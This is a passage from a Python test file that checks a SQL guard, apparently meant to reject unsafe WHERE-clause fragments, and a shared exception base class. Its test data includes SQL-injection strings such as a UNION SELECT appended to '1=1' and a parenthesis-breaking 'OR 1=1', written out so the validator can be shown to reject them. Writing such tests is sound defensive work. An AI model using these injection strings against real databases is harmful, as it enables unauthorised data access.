        ("1=1 UNION SELECT 1 FROM events", "not_a_condition"),
        ("1=1 ORDER BY 1", "not_a_condition"),
        ("1=1 LIMIT 5", "not_a_condition"),
        ("1=1 GROUP BY product", "not_a_condition"),
        ("1=1 FOR UPDATE", "not_a_condition"),
        ("1=1) OR (1=1", "unparseable"),
        ("price >", "unparseable"),
        ("", "empty"),
        ("customer_id = $1", "parameter"),
    ],
)
def test_check_where_rejects(fragment, reason):
    with pytest.raises(SQLRejected) as info:
        check_where(fragment)
    assert info.value.reason == reason, str(info.value)


def test_guard_errors_share_a_base():
    assert issubclass(SQLRejected, SQLGuardError) and issubclass(SQLFailed, SQLGuardError)
